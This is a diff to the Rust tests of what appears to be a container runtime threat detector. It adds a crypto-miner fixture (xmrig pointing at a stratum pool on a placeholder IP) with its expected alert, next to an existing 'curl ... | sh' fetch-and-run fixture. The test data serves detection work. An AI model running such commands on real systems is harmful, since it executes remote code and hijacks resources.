@@ -348,6 +348,19 @@ mod tests {
             .in_container(web_1())
             .at(T + 999_000_000)
             .build();
+        let miner = EventBuilder::exec("/tmp/xmrig")
+            .by(process(77, "/tmp/xmrig")
+                .argv(&[
+                    "/tmp/xmrig",
+                    "-o",
+                    "stratum+tcp://203.0.113.7:3333",
+                    "--donate-level",
+                    "1",
+                ])
+                .arc())
+            .in_container(web_1())
+            .at(T)
+            .build();
         let setuid = EventBuilder::exec("/tmp/rootme")
             .by(process(900, "/tmp/rootme")
                 .with(|p| {
@@ -391,6 +404,11 @@ mod tests {
                 &curl_sh,
                 "Execution:Runtime/SuspiciousCommand",
                 "2025-11-24T16:00:00Z  High      Execution:Runtime/SuspiciousCommand  pod default/web-1  /bin/sh[77]  cmd=sh -c curl -fsSL http://203.0.113.7/i.sh | sh\n",
+            ),
+            (
+                &miner,
+                "Impact:Runtime/CryptoMinerExecuted",
+                "2025-11-24T16:00:00Z  High      Impact:Runtime/CryptoMinerExecuted  pod default/web-1  /tmp/xmrig[77]  cmd=/tmp/xmrig -o stratum+tcp://203.0.113.7:3333 --donate-level 1\n",
             ),
             // No runtime context: the rule's matched conditions.
             (
